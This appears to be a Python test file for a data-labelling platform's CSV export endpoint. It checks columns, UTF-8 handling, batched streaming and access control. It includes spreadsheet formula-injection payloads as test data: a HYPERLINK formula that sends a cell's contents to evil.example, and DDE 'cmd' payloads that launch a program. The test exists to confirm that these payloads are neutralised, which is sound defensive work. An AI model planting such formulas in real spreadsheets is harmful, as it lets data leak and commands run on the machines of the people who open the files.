"""GET /api/v1/projects/{id}/export?format=csv: the export as a table for spreadsheets, every untrusted cell
neutralised against formula injection, streamed batch by batch."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from consenso.services import export
from consenso.store.database import Database
from consenso.store.models import AuditEvent
from tests.api.v1.adjudication_setup import Panel, history, make_gold, make_panel, vote
from tests.api.v1.assertions import When, assert_error
from tests.conftest import Factory, World

BOM = b"\xef\xbb\xbf"
COLUMNS = [
    "id",
    "data.text",
    "qa_status",
    "annotation_count",
    "final.result.sentiment",
    "final.method",
    "final.confidence",
    "final.decided_by",
    "final.decided_at",
    "final.reasoning",
]


@pytest.fixture
def panel(factory: Factory, world: World) -> Panel:
    return make_panel(factory, world, tasks=3)


def _import(client: TestClient, panel: Panel, records: list[dict[str, Any]]) -> list[int]:
    r = client.post(
        f"/api/v1/projects/{panel.project_id}/tasks", json=records, headers=panel.world.manager.headers
    )
    assert r.status_code == 201, r.text
    listed = client.get(
        f"/api/v1/projects/{panel.project_id}/tasks",
        params={"limit": 100},
        headers=panel.world.manager.headers,
    )
    assert listed.status_code == 200, listed.text
    body = listed.json()
    items = body["items"] if isinstance(body, dict) else body
    return sorted(t["id"] for t in items)[-len(records) :]


def _csv(client: TestClient, panel: Panel, **params: str) -> list[list[str]]:
    r = client.get(
        f"/api/v1/projects/{panel.project_id}/export",
        params={"format": "csv", **params},
        headers=panel.world.manager.headers,
    )
    assert r.status_code == 200, r.text
    assert r.content.startswith(BOM)
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))


def _adjudicate(client: TestClient, panel: Panel, task: int, label: str, reasoning: str) -> None:
    r = client.post(
        f"/api/v1/tasks/{task}/adjudication",
        json={"result": {"sentiment": label}, "reasoning": reasoning},
        headers=panel.world.reviewer.headers,
    )
    assert r.status_code == 201, r.text


def test_csv_has_a_row_per_task_with_the_documented_columns(
    app_client: TestClient, panel: Panel, db: Database
) -> None:
    automatic, adjudicated, pending = panel.task_ids
    vote(app_client, panel, automatic, ["positive", "positive", "negative"])
    vote(app_client, panel, adjudicated, ["positive", "negative", "neutral"])
    _adjudicate(app_client, panel, adjudicated, "neutral", "Nadie opina: la reseña sólo describe.")
    vote(app_client, panel, pending, ["negative"])

    r = app_client.get(
        f"/api/v1/projects/{panel.project_id}/export",
        params={"format": "csv"},
        headers=panel.world.manager.headers,
    )

    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == f'attachment; filename="project-{panel.project_id}.csv"'
    assert r.content.startswith(BOM + b"id,data.text,qa_status,")
    assert r.content.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    [auto_row] = history(db, automatic)
    decided_row = history(db, adjudicated)[-1]
    assert rows[0] == COLUMNS
    assert rows[1:] == [
        [
            str(automatic),
            "panel text 0",
            "final",
            "3",
            "positive",
            "majority_vote",
            str(auto_row.confidence),
            "",
            When(auto_row.created_at),
            "",
        ],
        [
            str(adjudicated),
            "panel text 1",
            "final",
            "3",
            "neutral",
            "adjudicated",
            "",
            str(panel.world.reviewer.id),
            When(decided_row.created_at),
            "Nadie opina: la reseña sólo describe.",
        ],
        [str(pending), "panel text 2", "pending", "1", "", "", "", "", "", ""],
    ]
    assert float(rows[1][6]) == pytest.approx(2 / 3)
    with db.read() as session:
        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "project.export")).one()
    assert (event.actor_id, event.object_id, event.details) == (
        panel.world.manager.id,
        str(panel.project_id),
        {"format": "csv"},
    )


INJECTIONS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "line_feed": "\n=1+1",
    "spaces": "  =cmd|' /C calc'!A0",
    "negative": "-5",
}


def test_every_cell_a_spreadsheet_could_run_is_neutralised_and_other_text_is_untouched(
    app_client: TestClient, panel: Panel
) -> None:
    """Cells from the task's data and meta and an adjudicator's reasoning: each one that starts with = + - @,
    a tab, CR or LF, or a formula after spaces, starts with ' in the file; ordinary text comes out as it went
    in; nested values are compact JSON; a JSON number from the data is neutralised like text."""
    data = {
        **INJECTIONS,
        "text": 'ordinary text, with a comma and "quotes"',
        "number": -5,
        "nested": {"a": [1, "=x"]},
        "flag": True,
        "empty": None,
    }
    [task] = _import(app_client, panel, [{"data": data, "meta": {"source": "@web", "batch": "b-1"}}])
    vote(app_client, panel, task, ["positive", "negative", "neutral"])
    _adjudicate(app_client, panel, task, "neutral", "=1+1")

    rows = _csv(app_client, panel)

    header, row = rows[0], next(r for r in rows[1:] if r[0] == str(task))
    cells = dict(zip(header, row, strict=True))
    assert [name for name in header if name.startswith(("data.", "meta."))] == [
        "data.at",
        "data.carriage_return",
        "data.empty",
        "data.equals",
        "data.flag",
        "data.line_feed",
        "data.minus",
        "data.negative",
        "data.nested",
        "data.number",
        "data.plus",
        "data.spaces",
        "data.tab",
        "data.text",
        "meta.batch",
        "meta.source",
    ]
    assert {key: cells[f"data.{key}"] for key in INJECTIONS} == {
        key: "'" + value for key, value in INJECTIONS.items()
    }
    assert cells["data.number"] == "'-5"
    assert cells["data.text"] == 'ordinary text, with a comma and "quotes"'
    assert cells["data.nested"] == '{"a":[1,"=x"]}'
    assert cells["data.flag"] == "true"
    assert cells["data.empty"] == ""
    assert (cells["meta.source"], cells["meta.batch"]) == ("'@web", "b-1")
    assert cells["final.reasoning"] == "'=1+1"
    assert (cells["id"], cells["final.result.sentiment"], cells["final.method"]) == (
        str(task),
        "neutral",
        "adjudicated",
    )
    # the panel's own tasks, without those keys, have empty cells there
    assert {rows[1][header.index(f"data.{key}")] for key in INJECTIONS} == {""}


def test_spanish_text_comes_back_exactly_and_excel_reads_it_as_utf8(
    app_client: TestClient, panel: Panel
) -> None:
    spanish = "Ñandú, canción y acción: ¿qué tal? ¡Sí! — ü, á, é, í, ó, ú"
    [task] = _import(app_client, panel, [{"data": {"text": spanish}, "meta": {"región": "Andalucía"}}])

    r = app_client.get(
        f"/api/v1/projects/{panel.project_id}/export",
        params={"format": "csv"},
        headers=panel.world.manager.headers,
    )

    assert r.status_code == 200, r.text
    assert r.content.startswith(BOM)  # the byte-order mark Excel needs to read UTF-8
    assert spanish.encode("utf-8") in r.content
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    [row] = [row for row in rows[1:] if row[0] == str(task)]
    assert (row[header.index("data.text")], row[header.index("meta.región")]) == (spanish, "Andalucía")


def test_gold_and_aggregate_columns_follow_the_final_label(
    app_client: TestClient, panel: Panel, db: Database
) -> None:
    answered, gold, _ = panel.task_ids
    make_gold(db, gold, {"sentiment": "negative"})
    vote(app_client, panel, answered, ["positive", "positive", "negative"])

    rows = _csv(app_client, panel, include_gold="true", aggregate="majority_vote")

    assert rows[0] == [
        *COLUMNS,
        "gold.result.sentiment",
        "aggregate.sentiment.label",
        "aggregate.sentiment.confidence",
    ]
    by_id = {row[0]: row[len(COLUMNS) :] for row in rows[1:]}
    assert by_id[str(gold)] == ["negative", "", ""]
    label, gold_cell, confidence = by_id[str(answered)][1], by_id[str(answered)][0], by_id[str(answered)][2]
    assert (gold_cell, label, float(confidence)) == ("", "positive", pytest.approx(2 / 3))


def test_csv_streams_one_chunk_per_batch_with_one_header(
    app_client: TestClient, panel: Panel, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows are written batch by batch (BATCH tasks at a time), never the whole file at once; the header is
    written once, and names a key that only a task of the last batch has."""
    monkeypatch.setattr(export, "BATCH", 2)
    [late] = _import(app_client, panel, [{"data": {"text": "last", "only_here": "x"}}])

    chunks = list(
        export.export_project(db, panel.world.manager.principal, panel.project_id, "csv", include_gold=False)
    )

    assert len(chunks) == 1 + 2  # the header, then 4 tasks in 2 batches of 2
    assert chunks[0] == BOM + b"id,data.only_here,data.text,qa_status,annotation_count," + (
        b"final.result.sentiment,final.method,final.confidence,final.decided_by,final.decided_at,"
        b"final.reasoning\r\n"
    )
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert [row[:3] for row in rows[1:]] == [
        *([str(t), "", f"panel text {i}"] for i, t in enumerate(panel.task_ids)),
        [str(late), "x", "last"],
    ]


@pytest.mark.parametrize("who", ["annotator", "reviewer", "viewer"])
def test_non_staff_cannot_export_csv(app_client: TestClient, world: World, db: Database, who: str) -> None:
    r = app_client.get(
        f"/api/v1/projects/{world.project_id}/export",
        params={"format": "csv"},
        headers=getattr(world, who).headers,
    )

    assert_error(r, 403, "permission_denied")
    with db.read() as session:
        assert session.scalars(select(AuditEvent).where(AuditEvent.action == "project.export")).all() == []


def test_outsider_gets_404_for_csv(app_client: TestClient, world: World) -> None:
    r = app_client.get(
        f"/api/v1/projects/{world.project_id}/export",
        params={"format": "csv"},
        headers=world.outsider.headers,
    )

    assert_error(r, 404, "not_found")
